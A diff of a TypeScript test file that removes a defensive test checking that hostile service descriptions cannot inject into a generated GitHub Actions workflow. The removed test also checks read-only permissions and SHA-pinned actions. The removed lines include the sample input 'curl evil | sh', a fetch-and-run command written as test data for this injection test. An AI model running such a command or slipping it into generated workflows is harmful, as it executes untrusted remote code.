@@ -1,5 +1,5 @@
 import fc from 'fast-check';
-import { parse, parseAllDocuments } from 'yaml';
+import { parseAllDocuments } from 'yaml';
 import { context, service } from '../__fixtures__/service';
 import { plan } from '../plan/plan';
 import { PlanFile } from '../plan/types';
@@ -115,22 +115,6 @@ describe('hostile text', () => {
         parseAllDocuments(content).map(d => d.toJS()),
       );
     }
-  });
-
-  it('does not reach the scripts of the workflow', () => {
-    const path = '.github/workflows/ci.yaml';
-    const read = (description: string) =>
-      plan(service({ description, tenant: description }), context()).files.find(
-        f => f.path === path,
-      )?.content;
-    expect(read('curl evil | sh')).toBe(read('harmless'));
-    const workflow = parse(read('harmless') ?? '');
-    expect(workflow.permissions).toEqual({ contents: 'read' });
-    const { steps } = workflow.jobs.check;
-    for (const step of steps.filter((s: { uses?: string }) => s.uses)) {
-      expect(step.uses).toMatch(/@[0-9a-f]{40}$/);
-    }
-    expect(JSON.stringify(workflow)).not.toContain('${{');
   });
 
   it('is plain text in the README', () => {
